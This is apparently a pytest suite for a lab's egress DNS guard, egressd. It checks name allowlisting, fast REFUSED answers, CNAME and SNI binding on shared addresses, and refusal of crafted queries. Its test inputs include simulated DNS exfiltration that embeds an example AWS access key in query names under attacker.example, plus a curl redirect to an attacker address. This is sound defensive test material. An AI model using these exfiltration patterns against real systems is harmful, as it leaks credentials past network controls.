"""Issue 3: the DNS guard and the binding of names to addresses."""
import pytest

import lab as L

AKIA = "AKIAIOSFODNN7EXAMPLE"


def dns_deny_for(qname):
    return lambda e: e.get("event") == "dns_deny" and e.get("qname", "").rstrip(".").lower() == qname


@pytest.mark.parametrize("resolver", [L.RESOLVER4, "192.0.2.99", L.ATTACKER_DNS])
def test_allowed_name_resolves_through_egressd(anylab, resolver):
    """Whatever resolver the client asks, egressd answers (the gateway redirects DNS)."""
    e = anylab.start_egressd()
    p = anylab.dig("@" + resolver, "+short", "updates.example.com", "A")
    assert p.returncode == 0, p.stdout + p.stderr
    assert p.stdout.split() == ["203.0.113.10"]
    p = anylab.dig("@" + resolver, "+short", "updates.example.com", "AAAA")
    assert p.stdout.split() == ["2001:db8:2::10"]
    e.wait_event(lambda x: x.get("event") == "dns_allow"
                 and x.get("qname", "").rstrip(".") == "updates.example.com",
                 what="dns_allow for updates.example.com")
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("qtype", ["A", "TXT", "AAAA"])
def test_denied_name_refused_fast(anylab, qtype):
    e = anylab.start_egressd()
    name = "%s.x.attacker.example" % AKIA.lower()
    r = anylab.dnsq(L.RESOLVER4, "%s/%s" % (name, qtype))
    assert r.get("rcode") == "REFUSED", r
    assert r["elapsed_ms"] < 100, "REFUSED took %.1f ms" % r["elapsed_ms"]
    assert r["answers"] == []
    # the key in the name is never logged: its labels are redacted
    ev = e.wait_event(dns_deny_for("[redacted].attacker.example"),
                      what="dns_deny for [redacted].attacker.example (sent %s)" % name)
    assert "credential:aws_access_key" in ev.get("indicators", []), ev
    with open(e.log, errors="replace") as f:
        assert AKIA.lower() not in f.read().lower(), "the key was logged in clear"
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("tcp", [False, True])
def test_query_straight_to_attacker_dns_refused(anylab, tcp):
    anylab.start_egressd()
    r = anylab.dnsq(L.ATTACKER_DNS, "secret-%s.attacker.example/TXT" % AKIA.lower(), tcp=tcp)
    assert r.get("rcode") == "REFUSED", r
    assert r["elapsed_ms"] < 100, "REFUSED took %.1f ms" % r["elapsed_ms"]
    anylab.assert_attacker_got_nothing()


def test_ip_literal_denied_at_syn(anylab):
    e = anylab.start_egressd()
    p = anylab.curl("https://updates.example.com/file", "--resolve",
                    "updates.example.com:443:%s" % L.ATTACKER4, timeout=5)
    assert p.returncode == 7, (p.returncode, p.stderr)
    assert p.elapsed < 2
    ev = e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == L.ATTACKER4,
                      what="deny at the SYN to the attacker")
    assert ev.get("reason") == "ip_not_allowed"
    assert "ip_literal" in ev.get("indicators", []), ev
    assert anylab.attacker_records()["connections"] == []
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("fam", ["4", "6"])
def test_cname_to_name_outside_allowlist(anylab, fam):
    anylab.start_egressd()
    p = anylab.dig("cname.example.com", "AAAA" if fam == "6" else "A")
    assert "updates-alias.example.net" in p.stdout, p.stdout
    p = anylab.curl("https://cname.example.com/file", "-" + fam)
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("updates")
    # The alias itself is not allowed.
    r = anylab.dnsq(L.RESOLVER4, "updates-alias.example.net/A")
    assert r.get("rcode") == "REFUSED", r
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("fam", ["4", "6"])
def test_shared_cdn_address_decided_by_sni(anylab, fam):
    e = anylab.start_egressd()
    addr = "203.0.113.30" if fam == "4" else "2001:db8:2::30"
    p = anylab.curl("https://cdn-a.example.org/file", "-" + fam)
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("cdn-a")
    # cdn-b is not resolvable through egressd...
    r = anylab.dnsq(L.RESOLVER4, "cdn-b.example.org/A")
    assert r.get("rcode") == "REFUSED", r
    # ...and on the shared address its SNI is denied.
    host = addr if fam == "4" else "[%s]" % addr
    p = anylab.curl("https://cdn-b.example.org/file", "--resolve",
                    "cdn-b.example.org:443:" + host, timeout=5)
    assert p.returncode != 0, p.stdout
    assert p.elapsed < 2
    ev = e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == addr
                      and x.get("dport") == 443, what="deny of cdn-b by SNI")
    assert ev.get("name") == "cdn-b.example.org"
    assert ev.get("name_source") == "sni"
    assert ev.get("reason") == "name_not_allowed"
    assert not [line for line in anylab.nginx_access() if "cdn-b" in line], anylab.nginx_access()
    assert [line for line in anylab.nginx_access() if line.startswith("cdn-a")]


def test_dns_over_tcp(anylab):
    anylab.start_egressd()
    p = anylab.dig("+tcp", "+short", "updates.example.com")
    assert p.stdout.split() == ["203.0.113.10"], p.stdout + p.stderr
    p = anylab.dig("+tcp", "updates.examp1e.com")
    assert "status: REFUSED" in p.stdout, p.stdout
    r = anylab.dnsq(L.RESOLVER4, "mirror.example.net/AAAA", tcp=True)
    assert r.get("rcode") == "NOERROR", r
    assert [a["value"] for a in r["answers"] if a["type"] == "AAAA"] == ["2001:db8:2::11"]
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("questions", [
    ["updates.example.com/A", "x.attacker.example/A"],
    ["updates.example.com/A", "updates.example.com/AAAA"],
    ["version.bind/TXT/CH"],
    ["updates.example.com/A/CH"],
], ids=["two-questions-mixed", "two-questions-allowed", "chaos-version-bind", "chaos-allowed-name"])
def test_crafted_queries_refused(anylab, questions):
    anylab.start_egressd()
    r = anylab.dnsq(L.RESOLVER4, *questions)
    assert r.get("rcode") == "REFUSED", r
    assert r.get("answers") == []
    with open(anylab.dir + "/dnsmasq.log", errors="replace") as f:
        # lowercase: upstream queries leave in random case (0x20)
        upstream = "\n".join(x for x in f if "query[" in x).lower()
    assert "version.bind" not in upstream
    assert "attacker.example" not in upstream
    anylab.assert_attacker_got_nothing()
